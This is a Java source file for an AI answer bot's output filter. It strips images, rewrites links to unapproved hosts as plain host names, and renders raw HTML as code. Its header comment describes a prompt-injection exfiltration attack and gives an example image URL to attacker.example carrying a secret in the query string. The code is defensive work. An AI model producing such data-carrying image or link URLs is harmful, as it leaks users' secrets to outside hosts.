package io.revbot.server.answers;

import io.revbot.tools.http.HostAllowList;
import java.net.URI;
import java.net.URISyntaxException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Optional;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.Code;
import org.commonmark.node.FencedCodeBlock;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.Node;
import org.commonmark.node.Text;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.markdown.MarkdownRenderer;

/**
 * Keeps answers from carrying data out through the reader's client. A model steered by planted text can write
 * {@code ![](https://attacker.example/p.png?d=<secret>)}, which a Markdown renderer fetches by itself, or a link
 * whose URL holds the data, which one click sends. So, in the Markdown of every final answer:
 *
 * <ul>
 *   <li>images are never kept: each becomes its description and its host, as text;
 *   <li>links stay links only to allowed hosts ({@code REVBOT_ANSWER_LINK_HOSTS}, the company's Salesforce and Gong
 *       hosts) and to knowledge-base documents ({@code business_logic/pipeline_rules.md}); any other link becomes its
 *       text followed by its host as code ({@code Pricing (`attacker.example`)}), so the reader sees where it pointed
 *       while neither the URL nor its data survive and no client can make the host clickable;
 *   <li>bare URLs in text to other hosts become their host, the same way (Slack and many clients link them);
 *   <li>raw HTML is shown as code, never rendered.
 * </ul>
 *
 * Answers without anything to change are returned exactly as written.
 */
public final class AnswerLinks implements UnaryOperator<String> {
    /** {@code https://…}, {@code www.…} and {@code host.tld/path}: what clients turn into links by themselves. */
    private static final Pattern BARE_URL =
            Pattern.compile("(?i)\\b(?:https?://|www\\.|(?:[a-z0-9-]+\\.)+[a-z]{2,24}/)[^\\s<>()\\[\\]`\"']*");

    private static final Pattern KNOWLEDGE_DOC = Pattern.compile("[A-Za-z0-9_][A-Za-z0-9_./-]*\\.md(#[A-Za-z0-9_-]*)?");

    private final HostAllowList allowed;
    private final Parser parser =
            Parser.builder().extensions(List.of(TablesExtension.create())).build();
    private final MarkdownRenderer renderer = MarkdownRenderer.builder()
            .extensions(List.of(TablesExtension.create()))
            .build();

    public AnswerLinks(HostAllowList allowed) {
        this.allowed = Objects.requireNonNull(allowed, "allowed");
    }

    @Override
    public String apply(String markdown) {
        if (markdown == null || markdown.isEmpty()) {
            return markdown;
        }
        Node document = parser.parse(markdown);
        Rewriter rewriter = new Rewriter();
        document.accept(rewriter);
        if (rewriter.changes.isEmpty()) {
            return markdown;
        }
        rewriter.changes.forEach(Runnable::run);
        return renderer.render(document).stripTrailing();
    }

    private boolean allowedLink(String destination) {
        if (destination == null || destination.isBlank()) {
            return false;
        }
        if (KNOWLEDGE_DOC.matcher(destination).matches() && !destination.contains("//")) {
            return true;
        }
        return uri(destination).filter(allowed::allows).isPresent();
    }

    /** Where a URL points, as the reader should see it: its host (a mail address's domain), else its scheme. */
    private static String place(String destination) {
        Optional<URI> uri = uri(destination);
        return uri.flatMap(HostAllowList::hostOf)
                .or(() -> uri.filter(u -> "mailto".equalsIgnoreCase(u.getScheme()))
                        .map(URI::getSchemeSpecificPart)
                        .filter(address -> address.contains("@"))
                        .map(address ->
                                address.substring(address.indexOf('@') + 1).replaceAll("[?#].*", "")))
                .or(() -> uri.map(URI::getScheme).map(s -> s.toLowerCase(Locale.ROOT) + " link"))
                .orElse("link");
    }

    private static Optional<URI> uri(String destination) {
        try {
            return Optional.of(new URI(destination.strip()));
        } catch (URISyntaxException e) {
            return Optional.empty();
        }
    }

    /** Finds what to change while walking, changes it afterwards (the tree is not edited under the walker). */
    private final class Rewriter extends AbstractVisitor {
        final List<Runnable> changes = new ArrayList<>();

        @Override
        public void visit(Image image) {
            String description = literal(image).strip();
            String host = place(image.getDestination());
            changes.add(() -> replace(
                    image,
                    List.of(
                            new Text((description.isEmpty() ? "image" : description) + " (image not shown, "),
                            new Code(host),
                            new Text(")"))));
        }

        @Override
        public void visit(Link link) {
            if (allowedLink(link.getDestination())) {
                return;
            }
            String label = literal(link).strip();
            String host = place(link.getDestination());
            boolean labelIsAUrl = label.isEmpty()
                    || label.equals(link.getDestination())
                    || BARE_URL.matcher(label).find();
            changes.add(() -> replace(
                    link,
                    labelIsAUrl
                            ? List.of(new Code(host))
                            : List.of(new Text(label + " ("), new Code(host), new Text(")"))));
        }

        @Override
        public void visit(Text text) {
            String literal = text.getLiteral();
            Matcher m = BARE_URL.matcher(literal);
            List<Node> parts = new ArrayList<>();
            int from = 0;
            while (m.find()) {
                String url = trimTrailingPunctuation(m.group());
                String full = url.contains("://") ? url : "https://" + url;
                if (allowedLink(full)) {
                    continue;
                }
                parts.add(new Text(literal.substring(from, m.start())));
                parts.add(new Code(place(full)));
                from = m.start() + url.length();
            }
            if (!parts.isEmpty()) {
                parts.add(new Text(literal.substring(from)));
                changes.add(() -> replace(text, parts));
            }
        }

        @Override
        public void visit(HtmlInline html) {
            changes.add(() -> replace(html, List.of(new Code(html.getLiteral()))));
        }

        @Override
        public void visit(HtmlBlock html) {
            FencedCodeBlock code = new FencedCodeBlock();
            code.setFenceCharacter("`");
            code.setOpeningFenceLength(3);
            code.setClosingFenceLength(3);
            code.setLiteral(html.getLiteral().endsWith("\n") ? html.getLiteral() : html.getLiteral() + "\n");
            changes.add(() -> replace(html, List.of(code)));
        }
    }

    private static void replace(Node node, List<Node> with) {
        for (Node n : with) {
            if (!(n instanceof Text t) || !t.getLiteral().isEmpty()) {
                node.insertBefore(n);
            }
        }
        node.unlink();
    }

    /** A sentence's full stop or closing bracket after a URL is not part of it. */
    private static String trimTrailingPunctuation(String url) {
        int end = url.length();
        while (end > 0 && ".,;:!?".indexOf(url.charAt(end - 1)) >= 0) {
            end--;
        }
        return url.substring(0, end);
    }

    /** The text under a node, formatting dropped. */
    private static String literal(Node node) {
        StringBuilder out = new StringBuilder();
        node.accept(new AbstractVisitor() {
            @Override
            public void visit(Text text) {
                out.append(text.getLiteral());
            }

            @Override
            public void visit(Code code) {
                out.append(code.getLiteral());
            }
        });
        return out.toString();
    }
}
